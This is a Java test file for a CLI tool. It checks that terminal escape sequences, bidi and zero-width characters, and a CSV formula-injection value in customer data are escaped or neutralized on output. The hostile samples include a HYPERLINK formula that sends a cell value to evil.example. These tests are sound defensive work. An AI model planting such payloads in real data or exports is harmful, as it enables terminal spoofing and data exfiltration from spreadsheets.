package io.sendtime.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import io.sendtime.load.LoadService;
import io.sendtime.transform.SampleLake;
import io.sendtime.warehouse.Warehouse;

/**
 * Customer values that attack a terminal or a spreadsheet (issue 14): inspect, sql and render preview show their
 * control, format and bidi characters as escapes; a CSV export neutralizes formulas unless --raw; JSON stays JSON.
 */
class HostileValuesCliTest {

    static final String BOB = "bob.norman@mail.example.com";
    /**
     * A window title and a screen clear (ESC, BEL), a C1 control sequence introducer, DEL, a right-to-left
     * override, an isolate, zero-width characters, a byte order mark, a line separator, tab, newline and CR.
     */
    static final String FIRST_NAME = "Bob\u001b]0;pwned\u0007\u001b[2J\u009b31m\u007f\u202Eevil\u202C"
            + "\u2066x\u2069\u200B\u200D\u2060\uFEFF\u2028next\tcol\nrow\rback";
    static final String LAST_NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Norman\")";
    static final String RULE = "orders_count = 0\u001b[8m";
    /** Characters a terminal must not receive; the newlines that end lines are removed before matching. */
    static final String RAW = "[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}]";

    @TempDir
    static Path dir;
    static Path config;

    @BeforeAll
    static void aWarehouseWithHostileValues() throws Exception {
        try (SampleLake lake = new SampleLake(dir)) {
            lake.extractBoth();
            lake.transform();
            assertThat(lake.app.get(LoadService.class).run(false, null).succeeded()).isTrue();
            int updated = lake.app.get(Warehouse.class).write(h -> h.createUpdate(
                            "UPDATE profiles SET first_name = :first, last_name = :last WHERE email = :email")
                    .bind("first", FIRST_NAME).bind("last", LAST_NAME).bind("email", BOB).execute()
                    + h.createUpdate("UPDATE segment_definitions SET rule_sql = :rule WHERE name = 'prospect'")
                    .bind("rule", RULE).execute());
            assertThat(updated).isEqualTo(2);
        }
        config = dir.resolve("sendtime.yaml");
        Files.writeString(config, """
                sendtime:
                  var-dir: %s
                  render:
                    templates: %s
                """.formatted(dir, Path.of("..", "templates").toAbsolutePath().normalize()));
    }

    @Test
    void inspectProfileShowsTheValueEscaped() {
        CliRun profile = CliRun.run(config, "inspect", "profile", BOB);

        assertThat(profile.exitCode()).as(profile.err()).isZero();
        assertNothingRaw(profile.out());
        assertThat(profile.out()).contains("Bob\\u001b]0;pwned\\u0007\\u001b[2J\\u009b31m\\u007f\\u202eevil\\u202c"
                + "\\u2066x\\u2069\\u200b\\u200d\\u2060\\ufeff\\u2028next\\u0009col\\u000arow\\u000dback");
    }

    @Test
    void inspectSegmentsShowsTheRuleEscaped() {
        CliRun segments = CliRun.run(config, "inspect", "segments");

        assertThat(segments.exitCode()).as(segments.err()).isZero();
        assertNothingRaw(segments.out());
        assertThat(segments.out()).contains("orders_count = 0\\u001b[8m");
    }

    @Test
    void sqlShowsTheValueEscapedInOneTableLine() {
        CliRun sql = CliRun.run(config, "sql", "SELECT first_name, 1 AS n FROM profiles WHERE email = '" + BOB + "'");

        assertThat(sql.exitCode()).as(sql.err()).isZero();
        assertNothingRaw(sql.out());
        assertThat(sql.out().lines()).as("header, rule, one row, count").hasSize(4);
        assertThat(sql.out().lines().skip(2).findFirst().orElseThrow())
                .startsWith("Bob\\u001b]0;pwned\\u0007\\u001b[2J").contains("\\u202eevil", "\\u2028next")
                .endsWith("row\\u000dback  1");
    }

    @Test
    void aSqlErrorQuotingTheValueShowsItEscaped() {
        CliRun sql = CliRun.run(config, "sql", "SELECT CAST(first_name AS INTEGER) FROM profiles WHERE email = '"
                + BOB + "'");

        assertThat(sql.exitCode()).isEqualTo(ExitCodes.USAGE);
        assertNothingRaw(sql.err());
        assertThat(sql.err()).contains("\\u001b]0;pwned").hasLineCount(1);
    }

    @Test
    void renderPreviewShowsTheTokensEscaped() {
        CliRun preview = CliRun.run(config, "render", "preview", "--campaign", "win-back", "--customer", BOB);

        assertThat(preview.exitCode()).as(preview.err()).isZero();
        assertNothingRaw(preview.out());
        // what of the value the render lets through into a token (it drops some controls itself)
        assertThat(preview.out()).contains("{{first_name}} = Bob", "\\u200b\\u200d\\u2060\\ufeff",
                "next\\u0009col\\u000arow\\u000dback");
    }

    @Test
    void csvNeutralizesFormulasInTextCellsOnly() {
        CliRun csv = CliRun.run(config, "sql", "--format", "csv",
                "SELECT last_name, CAST(-5 AS BIGINT) AS delta, '-5' AS memo FROM profiles WHERE email = '" + BOB + "'");

        assertThat(csv.exitCode()).as(csv.err()).isZero();
        assertThat(csv.out()).isEqualTo("""
                last_name,delta,memo
                "'=HYPERLINK(""http://evil.example/?""&A1,""Norman"")",-5,'-5
                """);
    }

    @Test
    void rawCsvKeepsTheValues() {
        CliRun csv = CliRun.run(config, "sql", "--format", "csv", "--raw",
                "SELECT last_name, CAST(-5 AS BIGINT) AS delta, '-5' AS memo FROM profiles WHERE email = '" + BOB + "'");

        assertThat(csv.exitCode()).as(csv.err()).isZero();
        assertThat(csv.out()).isEqualTo("""
                last_name,delta,memo
                "=HYPERLINK(""http://evil.example/?""&A1,""Norman"")",-5,-5
                """);
    }

    @Test
    void jsonStaysValidAndKeepsTheValues() throws Exception {
        CliRun json = CliRun.run(config, "sql", "--format", "json",
                "SELECT first_name, last_name FROM profiles WHERE email = '" + BOB + "'");

        assertThat(json.exitCode()).as(json.err()).isZero();
        JsonNode row = new ObjectMapper().readTree(json.out()).get(0);
        assertThat(row.get("first_name").asText()).isEqualTo(FIRST_NAME);
        assertThat(row.get("last_name").asText()).isEqualTo(LAST_NAME);
    }

    private static void assertNothingRaw(String printed) {
        assertThat(printed.replace("\n", "")).doesNotContain("\u001b", "\u202E", "\u2028").doesNotContainPattern(RAW);
    }
}
